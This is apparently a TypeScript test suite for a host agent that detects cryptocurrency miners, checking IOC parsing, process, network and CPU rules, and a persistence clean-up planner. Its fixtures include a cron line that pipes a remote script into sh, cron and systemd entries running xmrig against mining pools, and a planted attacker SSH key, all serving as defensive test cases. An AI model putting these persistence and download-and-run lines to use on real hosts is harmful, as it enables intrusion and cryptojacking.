import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import type { InetSocket, ProcessInfo, ProcessSnapshot } from '../../host/procfs/snapshot-types.js';
import { sustainedCpu, type CpuSample } from './cpu.js';
import { detectMiners } from './detect.js';
import { parseMinerIocs } from './iocs.js';
import { cleanupPlan, findPersistence } from './persistence.js';

const DATA = process.env.VIGIL_SHARED_DATA ?? fileURLToPath(new URL('../../../../shared/data/', import.meta.url));
const RULES = fileURLToPath(new URL('../../../rules/mining/miner-iocs.txt', import.meta.url));
const parsed = parseMinerIocs(readFileSync(RULES, 'utf8'));
const iocs = parsed.iocs;

interface FalcoIocs {
  minerPorts: number[];
  minerDomains: string[];
  httpsMinerDomains: string[];
  httpMinerDomains: string[];
  minerProcessNames: string[];
  stratumCmdlineSubstrings: string[];
}
const falco = JSON.parse(readFileSync(`${DATA}/mining/falco-miner-iocs.json`, 'utf8')) as FalcoIocs;

let inode = 1000;
function proc(pid: number, comm: string, cmdline: string[], sockets: InetSocket[] = [], exe?: string): { p: ProcessInfo; sockets: InetSocket[] } {
  return {
    p: { pid, ppid: 1, uid: 1000, comm, cmdline, startTime: 100 + pid, fds: sockets.map((s, i) => ({ fd: 3 + i, target: `socket:[${s.inode}]`, kind: 'socket' as const, inode: s.inode })), ...(exe ? { exe } : {}) },
    sockets,
  };
}
function conn(remoteAddress: string, remotePort: number, state: InetSocket['state'] = 'ESTABLISHED'): InetSocket {
  return { inode: inode++, proto: 'tcp', localAddress: '10.0.0.5', localPort: 40000 + (inode % 1000), remoteAddress, remotePort, state, uid: 1000 };
}
function snap(...items: { p: ProcessInfo; sockets: InetSocket[] }[]): ProcessSnapshot {
  return {
    selfPid: 1,
    processes: items.map((i) => i.p),
    inetSockets: items.flatMap((i) => i.sockets),
    unixSockets: [],
    stats: { skippedProcesses: 0, skippedFds: 0, truncated: false, netNamespaces: 1 },
  };
}

describe('miner IOC list', () => {
  it('parses cleanly and carries every Falco indicator', () => {
    expect(parsed.errors).toEqual([]);
    for (const n of falco.minerProcessNames) expect(iocs.names.has(n)).toBe(true);
    for (const p of falco.minerPorts) expect(iocs.ports.has(p)).toBe(true);
    for (const d of falco.minerDomains) expect(iocs.domains.has(d)).toBe(true);
    for (const d of falco.httpsMinerDomains) expect(iocs.httpsDomains.has(d)).toBe(true);
    for (const d of falco.httpMinerDomains) expect(iocs.httpDomains.has(d)).toBe(true);
    for (const s of falco.stratumCmdlineSubstrings) expect(iocs.schemes).toContain(s);
  });

  it('reports bad lines with their number', () => {
    const r = parseMinerIocs('name ok\nport 99999\nsha256 nothex\nfoo bar\n');
    expect(r.errors.map((e) => e.lineNo)).toEqual([2, 3, 4]);
  });
});

describe('detectMiners: the README positives and negatives', () => {
  it('flags a process named xmrig', () => {
    const out = detectMiners(snap(proc(10, 'xmrig', ['./xmrig'], [], '/tmp/.x/xmrig')), iocs);
    expect(out.map((f) => f.ruleId)).toEqual(['mining.process-name']);
    expect(out[0]?.response).toEqual({ killPid: 10, quarantinePath: '/tmp/.x/xmrig', blockAddresses: [] });
  });

  it('flags any process whose command line contains stratum+tcp://pool.supportxmr.com:3333', () => {
    const out = detectMiners(snap(proc(11, 'kworkerds', ['/tmp/kworkerds', '-o', 'stratum+tcp://pool.supportxmr.com:3333', '-u', 'wallet'])), iocs);
    expect(out.map((f) => f.ruleId)).toEqual(['mining.stratum-cmdline']);
    expect(out[0]?.stratumUrls).toEqual([{ url: 'stratum+tcp://pool.supportxmr.com:3333', scheme: 'stratum+tcp', host: 'pool.supportxmr.com', port: 3333 }]);
  });

  it('flags a connection to pool.minexmr.com:4444', () => {
    const s = conn('203.0.113.10', 4444);
    const out = detectMiners(snap(proc(12, 'systemd-helper', ['/usr/lib/helper'], [s])), iocs, { addressNames: new Map([['203.0.113.10', ['pool.minexmr.com']]]) });
    expect(out.map((f) => f.ruleId)).toEqual(['mining.pool-connection']);
    expect(out[0]?.response.blockAddresses).toEqual(['203.0.113.10']);
  });

  it('does not flag a renamed binary without stratum arguments', () => {
    expect(detectMiners(snap(proc(13, 'httpd', ['/usr/sbin/httpd', '-c', '/etc/x.json'], [], '/tmp/httpd')), iocs)).toEqual([]);
  });

  it('does not flag an unlisted domain on 443', () => {
    const s = conn('203.0.113.11', 443);
    expect(detectMiners(snap(proc(14, 'curl', ['curl'], [s])), iocs, { addressNames: new Map([['203.0.113.11', ['example.org']]]) })).toEqual([]);
  });

  it('does not flag 10.x / 192.168.x addresses on a miner port, even with a pool name', () => {
    const a = conn('10.1.1.1', 3333);
    const b = conn('192.168.7.7', 4444);
    const names = new Map([
      ['10.1.1.1', ['pool.minexmr.com']],
      ['192.168.7.7', ['pool.minexmr.com']],
    ]);
    expect(detectMiners(snap(proc(15, 'app', ['app'], [a, b])), iocs, { addressNames: names })).toEqual([]);
  });

  it('never treats a port match alone as a finding (25, 8080 …)', () => {
    const socks = [25, 8000, 8080, 8888, 3333].map((p) => conn('198.51.100.20', p));
    expect(detectMiners(snap(proc(16, 'java', ['java', '-jar', 'app.jar'], socks)), iocs)).toEqual([]);
  });

  it('flags an HTTPS pool only on 443 and an HTTP pool only on 80', () => {
    const names = new Map([['198.51.100.30', ['mine.xmrpool.net']]]);
    const on443 = detectMiners(snap(proc(17, 'a', ['a'], [conn('198.51.100.30', 443)])), iocs, { addressNames: names });
    const on80 = detectMiners(snap(proc(18, 'a', ['a'], [conn('198.51.100.30', 80)])), iocs, { addressNames: names });
    const on22 = detectMiners(snap(proc(19, 'a', ['a'], [conn('198.51.100.30', 22)])), iocs, { addressNames: names });
    expect([on443.length, on80.length, on22.length]).toEqual([1, 1, 0]);
  });

  it('matches the stratum endpoint of the command line even on loopback, and names with versions', () => {
    const s = conn('127.0.0.1', 3333);
    const out = detectMiners(snap(proc(20, 'xmrig-6.21.0', ['xmrig-6.21.0', '-o', 'stratum+ssl://127.0.0.1:3333'], [s])), iocs);
    expect(out.map((f) => f.ruleId).sort()).toEqual(['mining.process-name', 'mining.stratum-cmdline', 'mining.stratum-peer']);
  });

  it('skips the agent itself and reports known hashes', () => {
    const withHash = parseMinerIocs(`sha256 ${'a'.repeat(64)} test-miner\n`).iocs;
    const s = snap(proc(1, 'xmrig', ['xmrig']), proc(21, 'bin', ['bin']));
    expect(detectMiners(s, withHash, { exeHashes: new Map([[21, 'A'.repeat(64)]]) }).map((f) => [f.pid, f.ruleId])).toEqual([[21, 'mining.exe-hash']]);
  });
});

describe('pool addresses, pool domains in command lines and config files', () => {
  const withIp = parseMinerIocs('ip 198.51.100.77\nip ::ffff:198.51.100.78\nport 3333\ndomain pool.minexmr.com\nscheme stratum+tcp\n');
  it('parses ip entries (v4-mapped folded to v4) and rejects bad ones', () => {
    expect(withIp.errors).toEqual([]);
    expect([...withIp.iocs.ips].sort()).toEqual(['198.51.100.77', '198.51.100.78']);
    expect(parseMinerIocs('ip 999.1.1.1\n').errors.map((e) => e.lineNo)).toEqual([1]);
  });
  it('flags a connection to a listed address on any port, loopback included when listed', () => {
    const out = detectMiners(snap(proc(50, 'svc', ['svc'], [conn('198.51.100.77', 443)])), withIp.iocs);
    expect(out.map((f) => f.ruleId)).toEqual(['mining.pool-address']);
    expect(detectMiners(snap(proc(51, 'svc', ['svc'], [conn('198.51.100.79', 443)])), withIp.iocs)).toEqual([]);
  });
  it('flags a pool domain in argv: serious with a pool port, suspicious bare', () => {
    const a = detectMiners(snap(proc(52, 'k', ['k', '-o', 'pool.minexmr.com:3333'])), withIp.iocs);
    const b = detectMiners(snap(proc(53, 'ping', ['ping', 'pool.minexmr.com'])), withIp.iocs);
    const c = detectMiners(snap(proc(54, 'ping', ['ping', 'notpool.minexmr.com.example'])), withIp.iocs);
    expect([a.map((f) => [f.ruleId, f.level]), b.map((f) => [f.ruleId, f.level]), c]).toEqual([[['mining.pool-domain', 'serious']], [['mining.pool-domain', 'suspicious']], []]);
  });
  it('flags a config file naming a pool or a stratum URL, not one without', () => {
    const p = proc(55, 'k', ['k', '--config', 'c.json']);
    const hit = detectMiners(snap(p), withIp.iocs, { configs: new Map([[55, { path: 'c.json', text: '{"url":"stratum+tcp://x.example:1"}' }]]) });
    const miss = detectMiners(snap(p), withIp.iocs, { configs: new Map([[55, { path: 'c.json', text: '{"listen":8080}' }]]) });
    expect([hit.map((f) => f.ruleId), miss]).toEqual([['mining.config-pool'], []]);
  });
});

describe('sustained CPU with an outbound connection', () => {
  const series = (pid: number, startTime: number, perSecondTicks: number[], t0 = 0): CpuSample[] => {
    let ticks = 0;
    return [0, ...perSecondTicks].map((d, i) => ({ pid, startTime, timeMs: t0 + i * 10_000, cpuTicks: (ticks += d * 10) }));
  };

  it('needs every interval hot for the whole minimum duration', () => {
    const hot = series(30, 1, [95, 98, 99, 97, 96, 99, 100]); // 70 s near one core
    const dip = series(31, 1, [95, 98, 10, 97, 96, 99, 100]); // hot only for the last 40 s
    const out = sustainedCpu([...hot, ...dip], { ticksPerSecond: 100, minDurationMs: 60_000 });
    expect(out.map((o) => o.pid)).toEqual([30]);
    expect(out[0]?.averageCores).toBeCloseTo(0.977, 2);
  });

  it('does not merge a reused pid', () => {
    const a = series(32, 1, [100, 100, 100]);
    const b = series(32, 2, [100, 100, 100, 100], 30_000);
    expect(sustainedCpu([...a, ...b], { ticksPerSecond: 100, minDurationMs: 60_000 })).toEqual([]);
  });

  it('becomes a finding only with an outbound public connection', () => {
    const samples = series(40, 140, [100, 100, 100, 100, 100, 100, 100]);
    const busyOnline = proc(40, 'kthreadd2', ['kthreadd2'], [conn('198.51.100.40', 10443)]);
    const out = detectMiners(snap(busyOnline), iocs, { cpu: { samples, ticksPerSecond: 100 } });
    expect(out.map((f) => f.ruleId)).toEqual(['mining.cpu-outbound']);
    const busyOffline = proc(40, 'kthreadd2', ['kthreadd2'], [conn('10.0.0.9', 5432)]);
    expect(detectMiners(snap(busyOffline), iocs, { cpu: { samples, ticksPerSecond: 100 } })).toEqual([]);
  });
});

describe('persistence finder', () => {
  const now = Date.UTC(2024, 5, 1);
  const old = now - 90 * 86_400_000;
  const snapshot = {
    cron: [
      { path: '/etc/cron.d/sysupdate', mtimeMs: old, lines: ['# m h dom mon dow user command', '*/5 * * * * root /tmp/.x/xmrig -o stratum+tcp://pool.supportxmr.com:3333', '0 3 * * * root /usr/bin/apt-get update'] },
      { path: '/var/spool/cron/crontabs/www-data', mtimeMs: now - 3_600_000, lines: ['@reboot curl -s http://198.51.100.66/x.sh | sh'] },
      { path: '/etc/crontab', mtimeMs: old, lines: ['17 * * * * root cd / && run-parts --report /etc/cron.hourly'], ownedByPackage: true },
    ],
    systemdUnits: [
      { path: '/etc/systemd/system/kworker.service', mtimeMs: old, lines: ['[Service]', 'ExecStart=/opt/.cache/kworker -c /opt/.cache/config.json', 'Environment=POOL=pool.minexmr.com:4444'] },
      { path: '/etc/systemd/system/nginx-helper.service', mtimeMs: old, lines: ['[Service]', 'ExecStart=/usr/sbin/nginx'] },
    ],
    rcScripts: [{ path: '/etc/rc.local', mtimeMs: old, lines: ['#!/bin/sh', '/opt/.cache/kworker &', 'exit 0'] }],
    authorizedKeys: [{ path: '/root/.ssh/authorized_keys', mtimeMs: now - 86_400_000, lines: ['ssh-ed25519 AAAAC3Nza attacker@box'] }],
  };
  const findings = findPersistence(snapshot, iocs, { minerPaths: ['/opt/.cache/kworker'] }, { nowMs: now });

  it('reports entries referencing the miner, the pool or a stratum URL, and recent additions', () => {
    expect(findings.map((f) => [f.path, f.lineNo, f.reason])).toEqual([
      ['/etc/cron.d/sysupdate', 2, 'stratum-url'],
      ['/var/spool/cron/crontabs/www-data', 1, 'recently-added'],
      ['/root/.ssh/authorized_keys', 1, 'recently-added'],
      ['/etc/rc.local', 2, 'references-miner'],
      ['/etc/systemd/system/kworker.service', 2, 'references-miner'],
    ]);
    expect(findings.find((f) => f.reason === 'recently-added')?.level).toBe('suspicious');
  });

  it('produces an exact, ordered clean-up plan', () => {
    expect(cleanupPlan(findings)).toEqual([
      { action: 'disable-unit', unit: 'kworker.service', path: '/etc/systemd/system/kworker.service' },
      { action: 'delete-line', path: '/etc/cron.d/sysupdate', lineNo: 2, expected: snapshot.cron[0]?.lines[1] },
      { action: 'delete-line', path: '/etc/rc.local', lineNo: 2, expected: '/opt/.cache/kworker &' },
      { action: 'delete-line', path: '/root/.ssh/authorized_keys', lineNo: 1, expected: 'ssh-ed25519 AAAAC3Nza attacker@box' },
      { action: 'delete-line', path: '/var/spool/cron/crontabs/www-data', lineNo: 1, expected: '@reboot curl -s http://198.51.100.66/x.sh | sh' },
      { action: 'delete-file', path: '/etc/systemd/system/kworker.service' },
    ]);
    // Only the confirmed miner references, e.g. for a one-click clean-up without review.
    expect(cleanupPlan(findings, (f) => f.level === 'serious').some((s) => s.path === '/root/.ssh/authorized_keys')).toBe(false);
  });
});
